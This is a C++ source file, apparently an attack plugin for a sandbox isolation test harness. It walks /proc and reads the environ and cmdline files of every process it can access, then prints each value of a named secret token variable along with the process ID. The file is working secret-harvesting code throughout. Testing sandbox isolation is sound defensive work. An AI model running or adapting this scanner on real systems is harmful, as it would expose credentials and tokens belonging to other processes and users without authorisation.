/*
 * leak_cpp_proc_scan — walks /proc with std::filesystem and reads the environ
 * and cmdline of every process it can, returning every occurrence of the
 * token_env variable. It does not need to know the host's pid: any process on
 * the machine holding the secret will do.
 */
#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "attack.h"

namespace fs = std::filesystem;

namespace {

sbx_status attack(const atk_input *in, atk_out *out)
{
    char name[256];
    if (!atk_param(in, "token_env", name, sizeof name)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    const std::string needle = std::string(name) + "=";
    int scanned = 0, hits = 0;
    try {
        for (const auto &entry : fs::directory_iterator("/proc")) {
            const std::string pid = entry.path().filename().string();
            if (pid.empty() || !std::all_of(pid.begin(), pid.end(), ::isdigit)) {
                continue;
            }
            for (const char *file : {"environ", "cmdline"}) {
                std::ifstream in_file(entry.path() / file, std::ios::binary);
                std::string bytes((std::istreambuf_iterator<char>(in_file)),
                                  std::istreambuf_iterator<char>());
                ++scanned;
                for (auto pos = bytes.find(needle); pos != std::string::npos;
                     pos = bytes.find(needle, pos + 1)) {
                    const auto end = bytes.find('\0', pos);
                    const std::string line = "pid " + pid + " " + file + ": " +
                                             bytes.substr(pos, end == std::string::npos ? std::string::npos : end - pos) + "\n";
                    atk_put(out, line.data(), line.size());
                    ++hits;
                }
            }
        }
    } catch (const std::exception &e) {
        atk_printf(out, "failed walking /proc: %s\n", e.what());
    }
    atk_printf(out, "scanned %d files, %d hits\n", scanned, hits);
    return hits > 0 ? SBX_OK : SBX_ERR_INTERNAL;
}

} // namespace

ATK_INVOKE_PLUGIN(attack)
